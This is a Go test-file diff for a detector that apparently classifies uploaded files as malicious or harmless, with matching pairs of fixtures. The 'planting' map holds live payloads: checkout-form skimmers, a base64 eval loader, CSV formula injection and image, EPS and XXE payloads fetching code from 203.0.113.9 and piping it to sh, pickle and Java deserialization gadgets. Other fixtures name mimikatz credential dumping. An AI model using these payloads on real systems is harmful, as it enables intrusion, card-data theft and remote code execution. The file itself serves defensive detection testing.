@@ -142,6 +142,12 @@ var planting = map[string]string{
 	"base64.js":     "this['eval'](this['atob']('" + base64.StdEncoding.EncodeToString([]byte(`if((new RegExp('onepage|checkout')).test(window.location)){$("input, select").each(function(){q+=$(this).val()});$.post(u,q)}`)) + "'));",
 	"send.js":       `window.onload=function(){if((new RegExp('onepage')).test(window.location)){send();}};function clk(){var inp=document.querySelectorAll("input, select");for(i in inp){snd+=inp[i].name+'='+inp[i].value}$.post(u,snd)}`,
 	"artikel.csv":   "id,name,preis\n1,Schraube,0.10\n2,=cmd|'/c powershell iwr http://203.0.113.9/p.exe'!A1,9\n",
+	"avatar.jpg":    "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|curl 203.0.113.9/s|sh \")'\npop graphic-context\n",
+	"order.xml":     `<?xml version="1.0"?><!DOCTYPE o [<!ENTITY % d SYSTEM "http://203.0.113.9/x.dtd">%d;<!ENTITY x SYSTEM "file:///etc/passwd">]><order><note>&x;</note></order>`,
+	"invoice.eps":   "%!PS-Adobe-3.0 EPSF-3.0\nmark /OutputFile (%pipe%curl 203.0.113.9/s|sh) currentdevice putdeviceprops\n",
+	"model.pkl":     "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
+	"model2.pkl":    "\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R.",
+	"msg.ser":       "\xac\xed\x00\x05sr\x00\x11java.util.HashSet\x00sr\x004org.apache.commons.collections.functors.InvokerTransformer",
 	"b.csv":         "name;phone\r\nada;\"+cmd|' /C calc'!A0\"\r\n@SUM(1+1)*cmd|' /C calc'!A0;1\r\n",
 }
 
@@ -219,6 +225,19 @@ var harmless = map[string]string{
 	"notes.txt":         "URL: https://a.example/\nUser: ada\nMail program of the office\n",
 	"ticket.txt":        "Software: Office\nHost: pc-17\nUser: ada\nProblem: she forgot her password\n",
 	"hardening.md":      "Event 4688 shows `mimikatz.exe privilege::debug sekurlsa::logonpasswords`:\n\n# procdump of lsass must be blocked\n",
+	"icon.svg":          `<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(#g)"/><image xlink:href="photo.jpg?a=1&amp;b=2"/></svg>`,
+	"manual.xml":        `<!DOCTYPE book [<!ENTITY chapter SYSTEM "chapter.xml"><!ENTITY % local SYSTEM "file:///usr/share/xml/local.ent">]><book>&chapter;</book>`,
+	"print.ps":          "%!PS-Adobe-3.0\n<< /OutputFile (%pipe%lpr -Plaser) >> setpagedevice\n",
+	"stats.pkl":         "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x08datetime\x94\x8c\x04date\x94\x93\x94C\x04\x07\xea\x0b\x1e\x94\x85\x94R\x94.",
+	"protocol0.pkl":     "cdatetime\ndate\np0\n(S'x'\ntR.",
+	"cart.ser":          "\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03",
+	"package.json":      `{"scripts":{"preinstall":"node check.js","postinstall":"curl -fsSO https://registry.example/native.tgz"}}`,
+	"office.pac":        `function FindProxyForURL(u,h){if(dnsDomainIs(h,".bank.example"))return "DIRECT";return "PROXY 10.0.0.8:3128";}`,
+	"hosts":             "127.0.0.1 localhost\n10.0.0.7 online.bank.example test\n0.0.0.0 ads.example\n",
+	"parts.php":         `<?php include("header.php"); require_once("https://static.example/menu.html"); ?>`,
+	"one-host.txt":      "Nmap scan report for 10.0.0.1\n22/tcp open ssh\n",
+	"contact.ldif":      "dn: CN=ada,DC=corp,DC=example\nsAMAccountName: ada\n",
+	"wlan.xml":          "<WLANProfile><protected>true</protected><keyMaterial>01000000D08C9DDF</keyMaterial></WLANProfile>",
 	"reg.bat":           "reg save HKCU\\Software\\App app.hiv\r\nprocdump -ma app.exe\r\n",
 }
 
@@ -230,6 +249,39 @@ func letterCodes(text string) string {
 // isMalicious reports whether some content has no other use than an intruder's.
 func isMalicious(list []Content) bool {
 	return slices.ContainsFunc(list, func(c Content) bool { return c.Kind == Malicious || c.Kind == Secret })
+}
+
+// TestHidden looks at what hides behind and below other bytes.
+func TestHidden(t *testing.T) {
+	program := "MZ\x90" + strings.Repeat("\x00", 75) + "This program cannot be run in DOS mode.\r\n$" + strings.Repeat("\x00", 60)
+	mask := func(key byte) string {
+		b := []byte(program)
+		for i := range b {
+			b[i] ^= key
+		}
+		return string(b)
+	}
+	photo := "\xff\xd8\xff\xe0" + strings.Repeat("\x01\x02\x03", 999)
+	for _, test := range []struct {
+		about, name string
+		parts       []string
+		want        Kind
+	}{
+		{"a program behind a mask", "logo.png", []string{mask(0x5a)}, Program},
+		{"other data that begins like one", "logo.png", []string{mask(0x5a)[:60] + photo}, 0},
+		{"an archive behind a picture", "a.jpg", []string{photo, "\x07\xff\xd9PK\x03\x04\x14\x00"}, Disguised},
+		{"an archive behind a picture, in two packets", "a.jpg", []string{photo + "\xff\xd9P", "K\x03\x04\x14\x00"}, Disguised},
+		{"a film behind a picture", "a.MP.jpg", []string{photo + "\xff\xd9", "\x00\x00\x00\x18ftypmp42"}, 0},
+		{"a part of the registry", "1.tmp", []string{"regf" + strings.Repeat("\x00", 44) + string(wide(`emRoot\System32\Config\SAM`)) + strings.Repeat("\x00", 99)}, Hive},
+		{"the directory of Windows", "backup.bak", []string{"\x01\x02\x03\x04\xef\xcd\xab\x89" + strings.Repeat("\x00", 99), "\x00sdproptable\x00"}, Database},
+	} {
+		var last Content
+		for _, last = range shownBy(&ftp.Transfer{Command: "STOR", Argument: test.name}, test.parts...) {
+		}
+		if last.Kind != test.want || test.want == Hive && last.Name != "SAM" || test.want == Database && last.Name != directory {
+			t.Errorf("%s: got %v, want kind %v", test.about, last, test.want)
+		}
+	}
 }
 
 func TestPlanted(t *testing.T) {
